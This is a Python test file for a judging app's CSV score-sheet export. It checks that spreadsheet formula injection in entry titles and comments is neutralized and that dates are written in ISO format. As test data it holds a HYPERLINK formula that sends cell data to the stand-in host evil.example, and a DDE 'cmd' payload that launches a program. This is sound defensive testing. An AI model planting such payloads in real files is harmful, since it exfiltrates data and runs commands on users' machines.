"""The score sheets export neutralizes formulas (issue 13, item 1) and writes ISO dates."""

from __future__ import annotations

import csv
import io
import re

from judging.models import Entry, ScoreSheet
from tests.factories import sign_in
from tests.judging.factories import organizer, ready_round, score_everything

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C2&D2,"Open")'
COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"


async def test_a_formula_in_a_title_or_a_comment_comes_out_as_text(client, source):
    round_, seats = await ready_round(source)
    await score_everything(round_, seats)
    entry = await Entry.filter(round=round_).order_by("id").first()
    await Entry.filter(id=entry.id).update(title_ar=HYPERLINK)
    await ScoreSheet.filter(assignment__entry_id=entry.id).update(comment_for_team=COMMAND)
    await sign_in(client, await organizer(language="ar"))

    response = await client.get(f"/judging/event/1/rounds/{round_.id}/results/export.csv")
    assert response.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    hers = [row for row in rows[1:] if row[0].startswith("'=")]
    assert hers and all(row[0] == "'" + HYPERLINK for row in hers)
    assert all(row[9] == "'" + COMMAND for row in hers)
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    iso = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+03:00$")  # the scope's zone, Riyadh
    assert all(iso.match(row[-1]) for row in rows[1:])
